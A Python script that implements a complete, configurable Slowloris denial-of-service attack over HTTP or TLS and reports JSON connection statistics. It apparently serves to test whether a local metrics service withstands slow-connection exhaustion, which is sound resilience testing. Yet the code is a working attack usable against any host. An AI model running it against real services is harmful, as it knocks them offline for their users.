#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""Slowloris against an HTTP(S) endpoint: keep N connections open from one
source address, each sending the start of a request and then one byte every
--interval seconds, never finishing it. A connection the server closes is
opened again at the next tick (an attacker keeps trying). At the end one JSON
line on stdout: connects, closed_by_server, open_at_end, max_open.

  slowloris.py --src 127.0.0.2 --dst 127.0.0.1 --port 9479 --conns 200 --seconds 15 --mode tls
"""
import argparse
import json
import select
import socket
import time

HEADS = {
    # an HTTP request that never ends its headers
    "http": b"GET /metrics HTTP/1.1\r\nHost: dicomon\r\nX-Slow: ",
    # a TLS record announcing a 16 KiB ClientHello that never arrives
    "tls": b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03",
}
TRICKLE = {"http": b"a", "tls": b"\x00"}


class Conn:
    def __init__(self, src, dst, port):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.s.bind((src, 0))
        self.s.setblocking(False)
        self.s.connect_ex((dst, port))
        self.sent = 0

    def alive(self):
        """False once the server closed or reset it."""
        try:
            r, _, _ = select.select([self.s], [], [], 0)
            if r and self.s.recv(4096) == b"":
                return False
        except OSError:
            return False
        return True

    def feed(self, head, byte):
        data = head[self.sent:self.sent + 1] if self.sent < len(head) else byte
        try:
            self.s.send(data)
            self.sent += 1
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=200)
    ap.add_argument("--seconds", type=float, default=15)
    ap.add_argument("--interval", type=float, default=0.5)
    ap.add_argument("--mode", choices=sorted(HEADS), default="http")
    a = ap.parse_args()
    head, byte = HEADS[a.mode], TRICKLE[a.mode]
    st = {"connects": 0, "closed_by_server": 0, "open_at_end": 0, "max_open": 0}
    conns = []
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        keep = []
        for c in conns:
            if c.alive() and c.feed(head, byte):
                keep.append(c)
            else:
                st["closed_by_server"] += 1
                c.s.close()
        conns = keep
        st["max_open"] = max(st["max_open"], len(conns))
        while len(conns) < a.conns:
            try:
                conns.append(Conn(a.src, a.dst, a.port))
                st["connects"] += 1
            except OSError:
                break
        time.sleep(a.interval)
    st["open_at_end"] = sum(1 for c in conns if c.alive())
    for c in conns:
        c.s.close()
    print(json.dumps(st), flush=True)


if __name__ == "__main__":
    main()
